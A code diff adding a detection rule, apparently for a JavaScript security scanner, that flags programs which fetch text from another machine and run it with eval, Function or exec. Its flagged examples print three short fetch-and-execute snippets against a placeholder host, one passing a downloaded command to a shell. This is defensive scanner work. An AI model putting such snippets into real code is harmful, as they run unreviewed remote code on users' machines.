@@ -1,0 +1,58 @@
+import { codeArguments, defineRule, step, stepsOf } from '../src/define.js';
+
+export default defineRule({
+  meta: {
+    summary: 'Runs what another machine answers',
+    why: 'What is fetched at run time was never published, reviewed or locked. Browser loaders insert scripts from their own site and test runners evaluate pages they open; both do so without handing an answer to `eval`, `Function` or a shell.',
+    behaviour: 'execution',
+    messages: {
+      code: 'Fetches text with {source} and runs it with {sink}',
+      command: 'Fetches a command with {source} and hands it to {sink}',
+    },
+  },
+  examples: {
+    flags: [
+      {
+        title: 'a response is evaluated',
+        code: `require('https').get('https://stage.invalid', res => {\n  let body = '';\n  res.on('data', chunk => { body += chunk; });\n  res.on('end', () => eval(body));\n});`,
+      },
+      {
+        title: 'a promise of one is',
+        code: `const axios = require('axios');\naxios.get('https://stage.invalid').then(r => new Function('require', r.data)(require));`,
+      },
+      {
+        title: 'a command is fetched',
+        code: `const { exec } = require('child_process');\nfetch('https://stage.invalid').then(r => r.text()).then(command => exec(command));`,
+      },
+    ],
+    passes: [
+      {
+        title: 'a response is parsed',
+        code: `fetch('https://api.invalid').then(r => r.json()).then(data => console.log(data));`,
+      },
+      {
+        title: 'a response is written to a page',
+        code: `fetch('/part.html').then(r => r.text()).then(html => { document.body.innerHTML = html; });`,
+      },
+      {
+        title: 'a timer asks again',
+        code: `const poll = () => fetch('/state').then(r => r.json()).then(() => setTimeout(poll, 1000));`,
+      },
+    ],
+  },
+  file(context) {
+    for (const call of context.calls('execution', 'process')) {
+      const isCommand = context.calls('process').includes(call);
+      for (const arg of isCommand ? call.args.slice(0, 2) : codeArguments(call)) {
+        if (call.name === 'import' || /^document\./.test(call.name)) continue;
+        const label = context.labelsOf(arg).find(({ kind }) => kind === 'remote');
+        if (!label) continue;
+        context.report({
+          messageId: isCommand ? 'command' : 'code',
+          data: { source: label.detail, sink: call.name },
+          chain: [...stepsOf(label), step('sink', `runs it with ${call.name}`, context.file, call.node)],
+        });
+      }
+    }
+  },
+});
